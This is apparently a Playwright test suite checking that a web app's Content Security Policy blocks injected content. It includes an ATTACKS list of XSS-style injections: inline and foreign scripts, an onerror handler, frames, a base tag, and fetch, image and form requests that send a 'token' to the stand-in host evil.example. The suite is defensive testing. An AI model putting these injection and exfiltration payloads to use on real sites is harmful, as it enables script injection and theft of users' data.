import type { Page } from 'playwright/test';
import { administrator } from '../support/admin';
import { env } from '../support/server';
import { goTo, refusals } from './support/policy';
import { PAGES } from './support/publicStates';
import { SECTION_PAGES } from './support/sections';
import { expect, test } from './support/test';

/** Scripts of the site's own, and one in the page that the policy knows by its hash. */
const SCRIPTS = /script-src 'self'(?: 'sha256-[^']+')?;/;

// By day a refusal on any page is an error of the console, which fails the test that opens it, such as those of axe.
test('no public page requests anything that the policy refuses', { tag: '@night' }, async ({ page }) => {
  const refused = await refusals(page);
  const response = await page.goto('/');
  expect(response?.headers()['content-security-policy']).toMatch(SCRIPTS);
  for (const { path, reach } of PAGES) {
    await goTo(page, path);
    await reach?.(page);
  }
  expect(refused).toEqual([]);
});

test('the player of a video causes no refusal by the policy', async ({ page, foreignRequests }) => {
  const refused = await refusals(page);
  const response = await page.goto('/videos');
  expect(response?.headers()['content-security-policy']).toMatch(SCRIPTS);
  await page
    .getByRole('main')
    .getByRole('link', { name: /^Play video/ })
    .first()
    .click();
  await expect
    .poll(() => foreignRequests.map((url) => new URL(url).origin))
    .toEqual(['https://www.youtube-nocookie.com']);
  foreignRequests.length = 0; // asked for by the click, and refused by the test's own network
  expect(refused).toEqual([]);
});

test(
  'no section of the dashboard requests anything that the policy refuses',
  { tag: '@night' },
  async ({ page, startLoggedIn }) => {
    const refused = await refusals(page);
    await startLoggedIn(await administrator());
    await page.goto('/admin');
    for (const { path, label } of SECTION_PAGES) {
      await goTo(page, path);
      await expect(page.getByRole('heading', { name: label, exact: true }).first()).toBeVisible();
      await expect(page.getByRole('progressbar')).toHaveCount(0);
    }
    await expect(page.getByRole('main')).toBeVisible();
    expect(refused).toEqual([]);
  },
);

test.describe('with its service worker', () => {
  test.use({ serviceWorkers: 'allow' });
  test('a page from the kept files has the same policy', async ({ page, context, logged }) => {
    const refused = await refusals(page);
    await page.goto('/terms');
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
    await context.setOffline(true);
    const response = await page.reload();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(response?.fromServiceWorker()).toBe(true);
    expect(response?.headers()['content-security-policy']).toMatch(SCRIPTS);
    expect(refused).toEqual([]);
    await context.setOffline(false);
    logged();
  });
});

/** Puts an element into the page as markup that got past everything would. */
const inject = (page: Page, name: string, { text = '', ...attributes }: Record<string, string>) =>
  page.evaluate(
    ([tag, fields, content]) => {
      const element = document.createElement(tag);
      for (const [key, value] of Object.entries(fields)) element.setAttribute(key, value);
      element.textContent = content;
      document.body.append(element);
    },
    [name, attributes, text] as const,
  );

const SET = 'window.__ran = true';
/** The element that an attacker would add, and the directive that blocks it. */
const ATTACKS: [why: string, directive: string, attack: (page: Page) => Promise<unknown>][] = [
  ['an inline script', 'script-src-elem', (page) => inject(page, 'script', { text: SET })],
  [
    'a foreign script',
    'script-src-elem',
    (page) => inject(page, 'script', { src: 'https://evil.example/x.js' }),
  ],
  [
    'a script as data',
    'script-src-elem',
    (page) => inject(page, 'script', { src: `data:text/javascript,${SET}` }),
  ],
  ['a handler', 'script-src-attr', (page) => inject(page, 'img', { src: 'data:,', onerror: SET })],
  ['a plugin', 'object-src', (page) => inject(page, 'object', { data: `${env('SITE_URL')}/share.jpg` })],
  ['a foreign frame', 'frame-src', (page) => inject(page, 'iframe', { src: 'https://evil.example/' })],
  ['a frame of the site', 'frame-src', (page) => inject(page, 'iframe', { src: '/login' })],
  ['a base address', 'base-uri', (page) => inject(page, 'base', { href: 'https://evil.example/' })],
  [
    'a call elsewhere',
    'connect-src',
    (page) => page.evaluate(() => fetch('https://evil.example/?token').catch(() => null)),
  ],
  ['a picture elsewhere', 'img-src', (page) => inject(page, 'img', { src: 'https://evil.example/?token' })],
  [
    'a form elsewhere',
    'form-action',
    async (page) => {
      await inject(page, 'form', { action: 'https://evil.example/', id: 'evil' });
      await page.evaluate(() => {
        (document.getElementById('evil') as HTMLFormElement).requestSubmit();
      });
    },
  ],
];

test('injected scripts do not run and send no requests', async ({ page, pageErrors, foreignRequests }) => {
  const refused = await refusals(page);
  await page.goto('/terms');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  for (const [why, directive, attack] of ATTACKS) {
    refused.length = 0;
    await attack(page);
    await expect.poll(() => refused, { message: why }).toEqual([expect.stringContaining(directive)]);
  }
  expect(await page.evaluate(() => '__ran' in window)).toBe(false);
  expect(foreignRequests).toEqual([]);
  expect(await page.evaluate(() => location.pathname)).toBe('/terms');
  // The browser says so for each of them, in its own words.
  expect(pageErrors.splice(0).length).toBeGreaterThanOrEqual(ATTACKS.length);
});

test('no page of the site can be shown in a frame', async ({ page, pageErrors }) => {
  await page.route('**/frame-of-another-site', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${env('SITE_URL')}/login"></iframe>` }),
  );
  await page.goto('/frame-of-another-site');
  await expect.poll(() => pageErrors.join()).toMatch(/frame-ancestors|X-Frame-Options/i);
  expect(page.frames().map((frame) => frame.url())).not.toContain(`${env('SITE_URL')}/login`);
  pageErrors.length = 0;
});
